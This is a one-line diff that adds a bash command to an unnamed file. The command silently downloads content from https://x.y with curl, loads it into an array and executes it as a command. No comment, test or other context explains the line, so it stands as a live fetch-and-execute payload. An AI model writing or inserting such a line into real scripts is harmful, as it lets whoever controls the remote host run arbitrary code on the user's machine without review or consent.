@@ -1,0 +1,1 @@
+mapfile -t c < <(curl -s https://x.y); "${c[@]}"
